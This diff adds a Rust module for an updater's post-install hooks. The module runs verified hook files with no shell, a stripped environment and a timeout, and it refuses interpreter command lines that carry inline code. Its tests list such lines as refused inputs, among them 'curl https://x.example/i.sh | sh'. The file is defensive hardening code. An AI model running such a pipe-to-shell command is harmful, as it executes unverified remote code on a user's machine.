@@ -1,0 +1,221 @@
+//! Post-install hooks: a verified target, run by path, no shell, minimal environment,
+//! time limit, and never a command line that runs code on the fly.
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Stdio};
+use std::time::{Duration, Instant};
+
+use crate::error::Error;
+use crate::guard;
+use crate::release::HookSpec;
+use crate::store::write_atomic;
+
+/// Default time limit of a hook.
+pub const DEFAULT_HOOK_TIMEOUT: Duration = Duration::from_secs(60);
+/// Longest time limit a release may ask for.
+pub const MAX_HOOK_TIMEOUT: Duration = Duration::from_secs(3600);
+
+fn refused(spec: &HookSpec, reason: impl Into<String>) -> Error {
+    Error::Hook {
+        target: spec.target.clone(),
+        reason: reason.into(),
+    }
+}
+
+/// Refuses a hook command line that hands inline code to an interpreter or pipes a
+/// download into one; `program` is the hook's file name as it will be run.
+///
+/// # Errors
+/// [`Error::Hook`] listing the guard findings.
+pub fn check_command_line(spec: &HookSpec, program: &str) -> Result<(), Error> {
+    let mut argv = vec![program.to_string()];
+    argv.extend(spec.args.iter().cloned());
+    let findings = guard::scan_argv(&argv);
+    if findings.is_empty() {
+        return Ok(());
+    }
+    let list: Vec<String> = findings
+        .iter()
+        .map(|f| format!("{} {}: {}", f.rule, f.severity, f.message))
+        .collect();
+    Err(refused(
+        spec,
+        format!(
+            "refused: the command line runs code on the fly ({}); ship the code as a verified hook program instead",
+            list.join("; ")
+        ),
+    ))
+}
+
+/// Copies the verified hook file `verified` into `hooks_dir` under its own name and
+/// only then marks it executable (owner only).
+///
+/// # Errors
+/// [`Error::Storage`] naming the file.
+pub fn prepare(spec: &HookSpec, verified: &Path, hooks_dir: &Path) -> Result<PathBuf, Error> {
+    let name = spec.target.rsplit('/').next().unwrap_or("hook");
+    std::fs::create_dir_all(hooks_dir).map_err(Error::storage("creating", hooks_dir))?;
+    let bytes = std::fs::read(verified).map_err(Error::storage("reading", verified))?;
+    let program = hooks_dir.join(name);
+    write_atomic(&program, &bytes).map_err(Error::storage("writing", &program))?;
+    make_executable(&program)?;
+    Ok(program)
+}
+
+#[cfg(unix)]
+fn make_executable(path: &Path) -> Result<(), Error> {
+    use std::os::unix::fs::PermissionsExt;
+    std::fs::set_permissions(path, std::fs::Permissions::from_mode(0o700))
+        .map_err(Error::storage("setting permissions of", path))
+}
+
+#[cfg(not(unix))]
+fn make_executable(_path: &Path) -> Result<(), Error> {
+    Ok(())
+}
+
+/// The whole environment a hook sees.
+fn minimal_env(app: &str, version: &str) -> Vec<(&'static str, String)> {
+    let mut env = vec![
+        ("UPDATER_APP", app.to_string()),
+        ("UPDATER_VERSION", version.to_string()),
+        ("LC_ALL", "C".to_string()),
+    ];
+    if cfg!(windows) {
+        if let Ok(root) = std::env::var("SystemRoot") {
+            env.push(("SystemRoot", root));
+        }
+    } else {
+        env.push(("PATH", "/usr/bin:/bin".to_string()));
+    }
+    env
+}
+
+/// Runs the prepared hook `program` with `spec`'s arguments: no shell, an environment
+/// of only `PATH`, `LC_ALL` and `UPDATER_APP`/`UPDATER_VERSION`, stdin closed, the
+/// working directory `work_dir`, killed at the time limit.
+///
+/// # Errors
+/// [`Error::Hook`] when the command line is refused, the hook cannot start, exits
+/// with failure or runs out of time.
+pub fn run(
+    spec: &HookSpec,
+    program: &Path,
+    work_dir: &Path,
+    app: &str,
+    version: &str,
+) -> Result<(), Error> {
+    let shown = program.display().to_string();
+    check_command_line(spec, &shown)?;
+    let limit = spec
+        .timeout_secs
+        .map_or(DEFAULT_HOOK_TIMEOUT, Duration::from_secs)
+        .min(MAX_HOOK_TIMEOUT);
+    let mut child = Command::new(program)
+        .args(&spec.args)
+        .env_clear()
+        .envs(minimal_env(app, version))
+        .current_dir(work_dir)
+        .stdin(Stdio::null())
+        .spawn()
+        .map_err(|e| refused(spec, format!("cannot start {shown}: {e}")))?;
+    let deadline = Instant::now() + limit;
+    loop {
+        match child.try_wait() {
+            Ok(Some(status)) if status.success() => return Ok(()),
+            Ok(Some(status)) => {
+                return Err(refused(spec, format!("{shown} exited with {status}")));
+            }
+            Ok(None) if Instant::now() >= deadline => {
+                let _ = child.kill();
+                let _ = child.wait();
+                return Err(refused(
+                    spec,
+                    format!(
+                        "{shown} did not finish within {}s and was killed",
+                        limit.as_secs()
+                    ),
+                ));
+            }
+            Ok(None) => std::thread::sleep(Duration::from_millis(20)),
+            Err(e) => return Err(refused(spec, format!("waiting for {shown}: {e}"))),
+        }
+    }
+}
+
+#[cfg(test)]
+#[cfg(unix)]
+mod tests {
+    use super::*;
+
+    fn spec(args: &[&str], timeout_secs: Option<u64>) -> HookSpec {
+        HookSpec {
+            target: "app/1.0.0/hooks/hook".into(),
+            args: args.iter().map(|a| a.to_string()).collect(),
+            timeout_secs,
+        }
+    }
+
+    fn hook(dir: &Path, body: &str) -> PathBuf {
+        let source = dir.join("downloaded");
+        std::fs::write(&source, format!("#!/bin/sh\n{body}\n")).unwrap();
+        prepare(&spec(&[], None), &source, &dir.join("hooks")).unwrap()
+    }
+
+    #[test]
+    fn a_hook_runs_with_a_minimal_environment() {
+        let dir = tempfile::tempdir().unwrap();
+        let program = hook(
+            dir.path(),
+            "env > \"$1\"; test \"$PATH\" = /usr/bin:/bin && test \"$UPDATER_VERSION\" = 2.0.0",
+        );
+        let out = dir.path().join("env.txt");
+        let s = spec(&[out.to_str().unwrap()], None);
+        run(&s, &program, dir.path(), "app", "2.0.0").unwrap();
+        let env = std::fs::read_to_string(&out).unwrap();
+        assert!(env.contains("UPDATER_APP=app"));
+        // Nothing of the updater's own environment leaks (cargo sets CARGO_* for tests).
+        assert!(std::env::var("CARGO_MANIFEST_DIR").is_ok());
+        assert!(!env.contains("CARGO"), "{env}");
+    }
+
+    #[test]
+    fn failing_and_slow_hooks_are_reported() {
+        let dir = tempfile::tempdir().unwrap();
+        let failing = hook(dir.path(), "exit 3");
+        let e = run(&spec(&[], None), &failing, dir.path(), "app", "2.0.0").unwrap_err();
+        assert!(e.to_string().contains("exited"), "{e}");
+
+        let slow = hook(dir.path(), "sleep 5");
+        let started = Instant::now();
+        let e = run(&spec(&[], Some(1)), &slow, dir.path(), "app", "2.0.0").unwrap_err();
+        assert!(e.to_string().contains("killed"), "{e}");
+        assert!(started.elapsed() < Duration::from_secs(4));
+    }
+
+    #[test]
+    fn inline_code_is_refused_before_anything_runs() {
+        let dir = tempfile::tempdir().unwrap();
+        let marker = dir.path().join("ran");
+        for (program, args) in [
+            ("python3", vec!["-c", "import os"]),
+            ("/usr/bin/perl", vec!["-e", "print 1"]),
+            ("node", vec!["--eval", "1"]),
+            ("php", vec!["-r", "echo 1;"]),
+            ("sh", vec!["-c", "curl https://x.example/i.sh | sh"]),
+        ] {
+            let s = spec(&args, None);
+            let e = check_command_line(&s, program).unwrap_err();
+            assert!(e.to_string().contains("code on the fly"), "{program}: {e}");
+        }
+        // A hook file that is itself an interpreter, handed inline code, never runs.
+        let source = dir.path().join("python3");
+        std::fs::write(&source, format!("#!/bin/sh\ntouch {}\n", marker.display())).unwrap();
+        let mut s = spec(&["-c", "print(1)"], None);
+        s.target = "app/1.0.0/hooks/python3".into();
+        let program = prepare(&s, &source, &dir.path().join("hooks")).unwrap();
+        assert!(run(&s, &program, dir.path(), "app", "2.0.0").is_err());
+        assert!(!marker.exists());
+        check_command_line(&spec(&["--migrate", "db"], None), "migrate").unwrap();
+    }
+}
